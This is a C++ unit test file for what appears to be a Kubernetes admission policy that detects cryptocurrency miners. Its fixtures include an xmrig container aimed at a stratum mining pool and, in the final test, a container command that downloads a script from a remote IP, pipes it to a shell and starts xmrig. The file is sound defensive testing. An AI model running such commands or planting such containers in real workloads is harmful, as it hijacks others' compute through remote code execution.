// ExtractWorkload: the pod spec of every kind that carries one, all three container lists,
// JSON paths, and tolerance of partial or mistyped objects. Then the whole path (JSON object ->
// workload -> default policy) for each kind, so that no kind lets a miner through.

#include "policy/workload.h"

#include <gtest/gtest.h>
#include <rapidjson/document.h>

#include <string>

#include "policy/policy.h"
#include "test/policy/test_util.h"

namespace stratum_guard::policy {
namespace {

const char kPodSpec[] = R"({
  "initContainers": [{"name": "init", "image": "busybox:1.36", "command": ["sh", "-c", "true"]}],
  "containers": [
    {"name": "app", "image": "nginx:1.25", "args": ["-g", "daemon off;"],
     "env": [{"name": "A", "value": "1"}, {"name": "S", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]},
    {"name": "miner", "image": "xmrig/xmrig:6.21.0", "args": ["-o", "stratum+tcp://pool.example:3333"]}],
  "ephemeralContainers": [{"name": "debug", "image": "busybox:1.36", "command": ["sh"]}]
})";

struct KindCase {
  std::string kind;
  std::string json_prefix;  // up to where the pod spec goes
  std::string json_suffix;
  std::string spec_path;
};

std::vector<KindCase> AllKinds() {
  const std::string meta = R"("metadata": {"name": "n", "namespace": "ns"}, )";
  return {
      {"Pod", R"({"kind": "Pod", )" + meta + R"("spec": )", "}", "spec"},
      {"PodTemplate", R"({"kind": "PodTemplate", )" + meta + R"("template": {"spec": )", "}}",
       "template.spec"},
      {"Deployment", R"({"kind": "Deployment", )" + meta + R"("spec": {"template": {"spec": )",
       "}}}", "spec.template.spec"},
      {"ReplicaSet", R"({"kind": "ReplicaSet", )" + meta + R"("spec": {"template": {"spec": )",
       "}}}", "spec.template.spec"},
      {"StatefulSet", R"({"kind": "StatefulSet", )" + meta + R"("spec": {"template": {"spec": )",
       "}}}", "spec.template.spec"},
      {"DaemonSet", R"({"kind": "DaemonSet", )" + meta + R"("spec": {"template": {"spec": )", "}}}",
       "spec.template.spec"},
      {"Job", R"({"kind": "Job", )" + meta + R"("spec": {"template": {"spec": )", "}}}",
       "spec.template.spec"},
      {"CronJob",
       R"({"kind": "CronJob", )" + meta +
           R"("spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": )",
       "}}}}}", "spec.jobTemplate.spec.template.spec"},
      {"ReplicationController",
       R"({"kind": "ReplicationController", )" + meta + R"("spec": {"template": {"spec": )", "}}}",
       "spec.template.spec"},
  };
}

TEST(WorkloadTest, EveryKindYieldsAllContainerListsWithPaths) {
  for (const KindCase& k : AllKinds()) {
    SCOPED_TRACE(k.kind);
    rapidjson::Document doc;
    std::string json = k.json_prefix + kPodSpec + k.json_suffix;
    doc.Parse(json.c_str());
    ASSERT_FALSE(doc.HasParseError()) << json;
    auto w = ExtractWorkload(k.kind, doc);
    ASSERT_TRUE(w.has_value());
    EXPECT_EQ(w->kind, k.kind);
    EXPECT_EQ(w->namespace_, "ns");
    EXPECT_EQ(w->name, "n");
    EXPECT_EQ(w->pod_spec_path, k.spec_path);
    ASSERT_EQ(w->containers.size(), 4u);
    EXPECT_EQ(w->containers[0].name, "init");
    EXPECT_EQ(w->containers[0].type, ContainerType::kInitContainer);
    EXPECT_EQ(w->containers[0].path, k.spec_path + ".initContainers[0]");
    EXPECT_EQ(w->containers[1].name, "app");
    EXPECT_EQ(w->containers[1].type, ContainerType::kContainer);
    EXPECT_EQ(w->containers[2].path, k.spec_path + ".containers[1]");
    EXPECT_EQ(w->containers[3].type, ContainerType::kEphemeralContainer);
    EXPECT_EQ(w->containers[3].path, k.spec_path + ".ephemeralContainers[0]");
    const Container& app = w->containers[1];
    EXPECT_EQ(app.image, "nginx:1.25");
    ASSERT_EQ(app.args.size(), 2u);
    EXPECT_EQ(app.args[1], "daemon off;");
    ASSERT_EQ(app.env.size(), 2u);
    EXPECT_TRUE(app.env[0].has_value);
    EXPECT_EQ(app.env[0].value, "1");
    EXPECT_FALSE(app.env[1].has_value);
    EXPECT_EQ(app.env[1].name, "S");
  }
}

TEST(WorkloadTest, EveryKindIsJudged) {
  auto policy = Policy::Default();
  for (const KindCase& k : AllKinds()) {
    SCOPED_TRACE(k.kind);
    rapidjson::Document doc;
    std::string json = k.json_prefix + kPodSpec + k.json_suffix;
    doc.Parse(json.c_str());
    auto w = ExtractWorkload(k.kind, doc);
    ASSERT_TRUE(w.has_value());
    Verdict v = policy->Evaluate(*w);
    EXPECT_TRUE(v.Denied()) << testing::Describe(v);
    const Finding* url = testing::FindingOf(v, "stratum-url");
    ASSERT_NE(url, nullptr) << testing::Describe(v);
    EXPECT_EQ(url->path, k.spec_path + ".containers[1].args[1]");
    EXPECT_EQ(url->container, "miner");
  }
}

TEST(WorkloadTest, KindsWithoutPodTemplate) {
  rapidjson::Document doc;
  doc.Parse(R"({"kind": "Service", "spec": {"containers": [{"name": "x"}]}})");
  EXPECT_FALSE(ExtractWorkload("Service", doc).has_value());
  EXPECT_FALSE(ExtractWorkload("ConfigMap", doc).has_value());
  EXPECT_FALSE(ExtractWorkload("pod", doc).has_value()) << "kinds are case-sensitive";
  EXPECT_FALSE(CarriesPodTemplate("CustomThing"));
  EXPECT_EQ(PodTemplateKinds().size(), 9u);
  for (std::string_view kind : PodTemplateKinds()) EXPECT_TRUE(CarriesPodTemplate(kind));
}

TEST(WorkloadTest, ToleratesPartialAndMistypedObjects) {
  rapidjson::Document doc;
  doc.Parse(R"({"kind": "Deployment", "metadata": {"generateName": "web-"},
    "spec": {"template": {"spec": {"containers": [
      "not-an-object",
      {"name": 7, "image": ["x"], "command": "sh", "args": ["ok", 5, "also-ok"],
       "env": [{"name": "A", "value": 3}, "junk", {"name": "B", "value": "b"}]}]}}}})");
  auto w = ExtractWorkload("Deployment", doc);
  ASSERT_TRUE(w.has_value());
  EXPECT_EQ(w->name, "web-");
  EXPECT_EQ(w->namespace_, "");
  ASSERT_EQ(w->containers.size(), 2u);
  EXPECT_EQ(w->containers[0].name, "");
  const Container& c = w->containers[1];
  EXPECT_EQ(c.name, "");
  EXPECT_EQ(c.image, "");
  EXPECT_TRUE(c.command.empty());
  ASSERT_EQ(c.args.size(), 3u) << "a non-string arg keeps its slot so indexes match paths";
  EXPECT_EQ(c.args[1], "");
  EXPECT_EQ(c.args[2], "also-ok");
  ASSERT_EQ(c.env.size(), 3u);
  EXPECT_FALSE(c.env[0].has_value);
  EXPECT_EQ(c.env[2].value, "b");
  // Evaluating such a workload is safe and finds nothing.
  EXPECT_TRUE(Policy::Default()->Evaluate(*w).Empty());
}

TEST(WorkloadTest, ImagePullSecretsAreCollectedForImageInspection) {
  for (const KindCase& k : AllKinds()) {
    rapidjson::Document doc;
    doc.Parse((k.json_prefix +
               R"({"containers": [{"name": "a", "image": "registry.example/private/app:1"}],
                   "imagePullSecrets": [{"name": "regcred"}, {}, "junk", {"name": 5},
                                        {"name": "mirror-cred"}]})" +
               k.json_suffix)
                  .c_str());
    ASSERT_FALSE(doc.HasParseError()) << k.kind;
    auto w = ExtractWorkload(k.kind, doc);
    ASSERT_TRUE(w.has_value()) << k.kind;
    // Entries without a string name are skipped, as the API server would have refused them.
    EXPECT_EQ(w->image_pull_secrets, (std::vector<std::string_view>{"regcred", "mirror-cred"}))
        << k.kind;
  }
  rapidjson::Document mistyped;
  mistyped.Parse(R"({"spec": {"containers": [], "imagePullSecrets": {"name": "regcred"}}})");
  EXPECT_TRUE(ExtractWorkload("Pod", mistyped)->image_pull_secrets.empty());
}

TEST(WorkloadTest, TemplateWithoutSpec) {
  rapidjson::Document doc;
  doc.Parse(R"({"kind": "Deployment", "spec": {"replicas": 1}})");
  auto w = ExtractWorkload("Deployment", doc);
  ASSERT_TRUE(w.has_value());
  EXPECT_TRUE(w->containers.empty());
  EXPECT_TRUE(Policy::Default()->Evaluate(*w).Empty());
  rapidjson::Document not_object;
  not_object.Parse("[1, 2]");
  auto none = ExtractWorkload("Pod", not_object);
  ASSERT_TRUE(none.has_value());
  EXPECT_TRUE(none->containers.empty());
}

TEST(WorkloadTest, EphemeralContainerIsJudged) {
  // Ephemeral containers arrive through pods/ephemeralcontainers: a miner there is a miner.
  rapidjson::Document doc;
  doc.Parse(R"({"kind": "Pod", "metadata": {"name": "p", "namespace": "d"}, "spec": {
    "containers": [{"name": "app", "image": "nginx:1.25"}],
    "ephemeralContainers": [{"name": "dbg", "image": "alpine:3.19",
      "command": ["sh", "-c", "wget -qO- http://203.0.113.4/x | sh; ./xmrig"]}]}})");
  auto w = ExtractWorkload("Pod", doc);
  ASSERT_TRUE(w.has_value());
  Verdict v = Policy::Default()->Evaluate(*w);
  EXPECT_TRUE(v.Denied()) << testing::Describe(v);
  const Finding* f = testing::FindingOf(v, "miner-binary");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->path, "spec.ephemeralContainers[0].command[2]");
}

}  // namespace
}  // namespace stratum_guard::policy
